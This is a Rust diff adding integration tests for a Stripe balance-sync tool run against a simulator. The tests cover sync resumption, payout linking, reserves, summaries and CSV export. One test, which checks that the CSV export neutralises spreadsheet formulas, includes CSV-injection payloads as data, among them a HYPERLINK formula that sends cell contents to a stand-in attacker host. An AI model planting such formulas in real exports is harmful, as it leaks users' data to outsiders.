@@ -18,7 +18,7 @@ use std::process::{Command, Stdio};
 use std::str::FromStr;
 use std::sync::Arc;
 use std::time::Duration;
-use stripe_sim::{Failure, KeyAccess, SeedSpec, SimConfig, Simulator};
+use stripe_sim::{Charge, Failure, KeyAccess, SeedSpec, SimConfig, Simulator};
 
 const KEY: &str = "sk_test_51BalancesTestKey000000000005678";
 const ACCOUNT: &str = "acct_1BalanceShop";
@@ -748,4 +748,381 @@ async fn the_desk_syncs_queries_reconciles_exports_and_deletes_a_copy() {
     assert!(desk.balances_has_copy(&id).unwrap());
     desk.balances_delete_copy(&id).unwrap();
     assert!(!path.exists());
+}
+
+fn synced_at(path: &Path) -> i64 {
+    rusqlite::Connection::open(path)
+        .unwrap()
+        .query_row("SELECT value FROM meta WHERE key = 'last_synced_at'", [], |r| {
+            r.get::<_, String>(0)
+        })
+        .unwrap()
+        .parse()
+        .unwrap()
+}
+
+/// Issue 15.2: a copy with no rows resumes from its last sync, not from now.
+#[tokio::test]
+async fn nothing_is_missed_after_an_empty_first_sync() {
+    let sim = sim_with(0).await;
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("empty.sqlite3");
+    let store = Arc::new(BalanceStore::open(&path).unwrap());
+    assert!(sync_all(&sim, &store).await.completed);
+    assert_eq!(store.stats().unwrap().transactions, 0);
+    drop(store);
+    // That first sync was two hours ago: say so in the copy, as time would.
+    let two_hours_ago = synced_at(&path) - 2 * 3600;
+    rusqlite::Connection::open(&path)
+        .unwrap()
+        .execute(
+            "UPDATE meta SET value = ?1 WHERE key = 'last_synced_at'",
+            [two_hours_ago.to_string()],
+        )
+        .unwrap();
+    // A charge an hour ago: after that sync, before this one.
+    let id = sim.add_charge(
+        ACCOUNT,
+        Charge {
+            currency: "usd".into(),
+            amount: 5_000,
+            created: sim.now() - 3600,
+            description: "Payment from Olivia Smith".into(),
+        },
+    );
+    let store = Arc::new(BalanceStore::open(&path).unwrap());
+    assert!(sync_all(&sim, &store).await.completed);
+    assert_eq!(store_ids(&store), vec![id]);
+}
+
+/// Issue 15.3: a manual payout cannot be listed by Stripe's `payout` filter
+/// ("for automatic Stripe payouts only"); the sync goes on without it.
+#[tokio::test]
+async fn a_manual_payout_does_not_stop_the_sync() {
+    let sim = sim_with(1_500).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("m.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let manual = sim.add_manual_payout(ACCOUNT, "usd", 10_000);
+    for _ in 0..2 {
+        let outcome = sync(
+            &client(&sim.base_url()),
+            &auth(),
+            store.clone(),
+            &fast_options(),
+            &Cancel::new(),
+            &|_| {},
+        )
+        .await
+        .expect("a manual payout never makes a sync fail");
+        assert!(outcome.completed);
+    }
+    assert_identical(&sim, &store);
+    let d = store.payout_detail(&manual).unwrap();
+    assert_eq!(d.payout_amount, Some(10_000));
+}
+
+/// Issue 15.3: an automatic payout is linked once Stripe has reconciled it,
+/// not while it is `in_progress` (the list is not complete then).
+#[tokio::test]
+async fn a_payout_still_being_reconciled_is_linked_on_a_later_sync() {
+    let sim = sim_with(1_500).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("r.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    sim.advance_clock(Duration::from_secs(5 * 86_400));
+    let po = sim.add_automatic_payout(ACCOUNT, "usd", false);
+    assert!(sync_all(&sim, &store).await.completed);
+    sim.complete_payout_reconciliation(ACCOUNT, &po);
+    assert!(sync_all(&sim, &store).await.completed);
+    let d = store.payout_detail(&po).unwrap();
+    assert!(d.matches, "{po} links what it settled once reconciled");
+    assert!(d.settled_net > 0);
+}
+
+/// Issue 15.3: one payout that fails to link is shown as such; the rest link.
+#[tokio::test]
+async fn a_payout_that_fails_to_link_never_stops_the_rest() {
+    let sim = sim_with(3_000).await;
+    // A payout that settled more than a page (Stripe's 100), so its second page fails.
+    let big = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+        .map(|t| t["source"].as_str().unwrap().to_string())
+        .find(|po| sim.payout_settled(ACCOUNT, po).len() > 100)
+        .expect("a payout that settled more than a page");
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("f.sqlite3")).unwrap());
+    sim.fail_when(
+        &format!("payout={big}&starting_after="),
+        Failure::ServerError500,
+    );
+    let options = SyncOptions {
+        page_attempts: 2,
+        ..fast_options()
+    };
+    let outcome = sync(
+        &client(&sim.base_url()),
+        &auth(),
+        store.clone(),
+        &options,
+        &Cancel::new(),
+        &|_| {},
+    )
+    .await
+    .expect("one payout's failure never fails the sync");
+    assert!(outcome.completed);
+    assert_identical(&sim, &store);
+    let d = store.payout_detail(&big).unwrap();
+    assert!(!d.matches);
+    // Every other payout is linked.
+    for po in sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+    {
+        let id = po["source"].as_str().unwrap();
+        if id != big {
+            assert!(store.payout_detail(id).unwrap().matches, "{id}");
+        }
+    }
+    // Stripe answers again: the next sync links it.
+    sim.stop_failing();
+    assert!(sync_all(&sim, &store).await.completed);
+    assert!(store.payout_detail(&big).unwrap().matches);
+}
+
+/// Issue 15.4: Issuing spend, a reserve and a Connect reserve never make a
+/// healthy account differ from Stripe's balance.
+#[tokio::test]
+async fn issuing_spend_and_reserves_do_not_make_a_healthy_account_differ() {
+    let sim = sim_with(1_500).await;
+    sim.add_issuing_activity(ACCOUNT, "usd", 500_000, 123_456);
+    sim.hold_reserve(ACCOUNT, "usd", 77_700);
+    sim.prefund_refunds_and_disputes(ACCOUNT, "eur", 10_000);
+    sim.set_connect_reserved(ACCOUNT, "usd", 4_200);
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("i.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    assert_identical(&sim, &store);
+    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
+        .await
+        .unwrap();
+    let rec = store.reconcile(&balance, at).unwrap();
+    assert!(rec.matches, "{rec:#?}");
+}
+
+/// Issue 17.4: the period summary and the totals agree for the same
+/// filters, and with an independent sum: charges' gross and fees are
+/// visible, not only their net.
+#[tokio::test]
+async fn the_period_summary_and_the_totals_agree_for_the_same_filters() {
+    let sim = sim_with(4_000).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("s.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let now = sim.now();
+    let (from, to) = (now - 120 * 86_400, now - 90 * 86_400);
+    let filter = Filter {
+        currencies: vec!["eur".into()],
+        types: vec!["charge".into()],
+        created: TimeRange {
+            from: Some(from),
+            to: Some(to),
+        },
+        ..Filter::default()
+    };
+    let truth = sim.balance_transactions(ACCOUNT);
+    let want = sums(truth.iter().filter(|t| {
+        t["currency"] == "eur"
+            && t["type"] == "charge"
+            && (from..to).contains(&i(t, "created"))
+    }));
+    let (count, amount, fee, net) = want["eur"];
+    assert!(count > 0 && fee > 0);
+    assert_eq!(store_sums(&store, &filter)["eur"], (count, amount, fee, net));
+    let summary = store.period_summary(filter.created).unwrap();
+    assert_eq!(summary.len(), 1, "the summary uses the Currency filter too");
+    let eur = summary.iter().find(|s| s.currency == "eur").unwrap();
+    let others: Vec<_> = eur.activity.iter().filter(|a| a.group != "charges" && a.count > 0).collect();
+    assert!(others.is_empty(), "the summary uses the Type filter too: {others:?}");
+    let charges = eur.activity.iter().find(|a| a.group == "charges").unwrap();
+    assert_eq!(charges.count, count);
+    assert_eq!(charges.net, net);
+}
+
+/// Issue 16.3: a description that would run as a spreadsheet formula is
+/// written as text; amounts stay numbers.
+#[tokio::test]
+async fn csv_text_cells_never_run_as_formulas() {
+    let sim = sim_with(0).await;
+    let payloads = [
+        "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")",
+        "+1+2",
+        "-2+3",
+        "@SUM(1,2)",
+        "\tTabbed",
+        "\rReturned",
+        "Plain text",
+    ];
+    for (k, description) in payloads.iter().enumerate() {
+        sim.add_charge(
+            ACCOUNT,
+            Charge {
+                currency: "usd".into(),
+                amount: 1_000 + k as i64,
+                created: sim.now() - 100 - k as i64,
+                description: description.to_string(),
+            },
+        );
+    }
+    // A refund: a negative amount, which must stay a number.
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("c.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let out = dir.path().join("formulas.csv");
+    export_csv(
+        &store,
+        &Filter::default(),
+        Sort::newest_first(),
+        &out,
+        &Cancel::new(),
+        |_| {},
+    )
+    .unwrap();
+    let text = std::fs::read_to_string(&out).unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let mut seen = BTreeSet::new();
+    for record in reader.records() {
+        let r = record.unwrap();
+        let description = &r[col("description")];
+        if description == "Plain text" {
+            seen.insert(description.to_string());
+            continue;
+        }
+        assert!(
+            description.starts_with('\''),
+            "{description:?} would run as a formula"
+        );
+        seen.insert(description[1..].to_string());
+        // Numbers stay numbers: no quote before an amount.
+        for money in ["amount", "fee", "net"] {
+            assert!(r[col(money)].parse::<Decimal>().is_ok(), "{}", &r[col(money)]);
+        }
+    }
+    assert_eq!(seen.len(), payloads.len());
+}
+
+/// Issue 15.5: a range is split after its first page too, so when the data
+/// is uneven (most of it recent) the idle workers share the busy range.
+#[tokio::test]
+async fn busy_ranges_are_split_after_their_first_page() {
+    let sim = Simulator::start(SimConfig::bundled()).await.unwrap();
+    sim.add_account(ACCOUNT, "Growing Shop");
+    sim.add_key(KEY, ACCOUNT, KeyAccess::Full);
+    sim.seed_growing_balance_history(ACCOUNT, 6_000, 5);
+    sim.set_latency(Duration::from_millis(20));
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("g.sqlite3")).unwrap());
+    let options = SyncOptions {
+        workers: 4,
+        link_payouts: false,
+        ..fast_options()
+    };
+    sync(
+        &client(&sim.base_url()),
+        &auth(),
+        store.clone(),
+        &options,
+        &Cancel::new(),
+        &|_| {},
+    )
+    .await
+    .unwrap();
+    assert_identical(&sim, &store);
+    // Each range is fetched from its own lower bound (`created[gte]`).
+    let ranges: BTreeSet<String> = sim
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/v1/balance_transactions")
+        .filter_map(|r| {
+            r.query
+                .split('&')
+                .find(|kv| kv.starts_with("created%5Bgte%5D=") || kv.starts_with("created[gte]="))
+                .map(str::to_string)
+        })
+        .collect();
+    assert!(
+        ranges.len() > 8,
+        "{} ranges for 4 workers: the busy range was never split",
+        ranges.len()
+    );
+}
+
+/// Issue 15.5: an account whose record leaves `created` out: the plan starts
+/// at its oldest transaction, found by a few probes, not in 1970.
+#[tokio::test]
+async fn an_account_without_created_is_planned_from_its_oldest_transaction() {
+    let sim = sim_with(3_000).await;
+    sim.omit_account_created(ACCOUNT);
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("n.sqlite3")).unwrap());
+    let outcome = sync_all(&sim, &store).await;
+    assert!(outcome.completed);
+    assert_identical(&sim, &store);
+    let oldest = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .map(|t| i(t, "created"))
+        .min()
+        .unwrap();
+    let lows: Vec<i64> = sim
+        .requests()
+        .iter()
+        .filter(|r| r.path == "/v1/balance_transactions")
+        .filter_map(|r| {
+            r.query.split('&').find_map(|kv| {
+                kv.strip_prefix("created%5Bgte%5D=")
+                    .or_else(|| kv.strip_prefix("created[gte]="))
+                    .and_then(|v| v.parse().ok())
+            })
+        })
+        .collect();
+    let lowest = *lows.iter().min().unwrap();
+    let span = sim.now() - oldest;
+    assert!(
+        lowest <= oldest && oldest - lowest < span / 4,
+        "the plan starts at {lowest}, the oldest transaction is at {oldest}"
+    );
+}
+
+/// Issue 16.9: the payout detail sends the window what it shows, not every row.
+#[tokio::test]
+async fn a_payout_detail_is_bounded() {
+    let sim = sim_with(3_000).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(BalanceStore::open(&dir.path().join("p.sqlite3")).unwrap());
+    sync_all(&sim, &store).await;
+    let (po, settled) = sim
+        .balance_transactions(ACCOUNT)
+        .iter()
+        .filter(|t| t["type"] == "payout")
+        .map(|t| {
+            let po = t["source"].as_str().unwrap().to_string();
+            let n = sim.payout_settled(ACCOUNT, &po).len();
+            (po, n)
+        })
+        .max_by_key(|p| p.1)
+        .unwrap();
+    assert!(settled > 100);
+    let d = store.payout_detail(&po).unwrap();
+    assert!(d.matches);
+    assert!(
+        d.transactions.len() <= 20,
+        "{} rows sent to show a count",
+        d.transactions.len()
+    );
 }
